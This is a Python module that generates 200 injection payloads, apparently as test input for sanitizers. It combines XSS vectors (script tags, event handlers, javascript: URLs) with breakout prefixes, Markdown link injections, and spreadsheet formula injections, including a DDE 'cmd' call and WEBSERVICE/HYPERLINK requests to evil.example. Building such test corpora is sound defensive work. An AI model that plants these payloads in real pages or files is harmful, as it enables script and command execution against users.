"""200 hostile texts: markup that would run, Markdown that would load or run, and cells that a spreadsheet computes."""

from itertools import product

VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;//x>",
    "<template><script>alert(1)</script>",
)
BREAKOUTS = ("", '">', "'>", "</textarea>", "</title>", "-->", "]]>")
MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "**<b onclick=alert(1)>x</b>**",
    "[x](data:text/html,<script>alert(1)</script>)",
)
PLACES = ("{}", "- {}", "# {}", "> {}", "`{}`")
LEADS = ("=", "+", "-", "@", "\t=", " =")
FORMULAS = ("cmd|' /C calc'!A0", 'HYPERLINK("//evil.example")', "1+1", "SUM(A1:A9)", 'WEBSERVICE("//evil.example")')

PAYLOADS = (
    *(before + vector for before, vector in product(BREAKOUTS, VECTORS)),
    *(place.format(text) for place, text in product(PLACES, MARKDOWN)),
    *(lead + formula for lead, formula in product(LEADS, FORMULAS)),
)
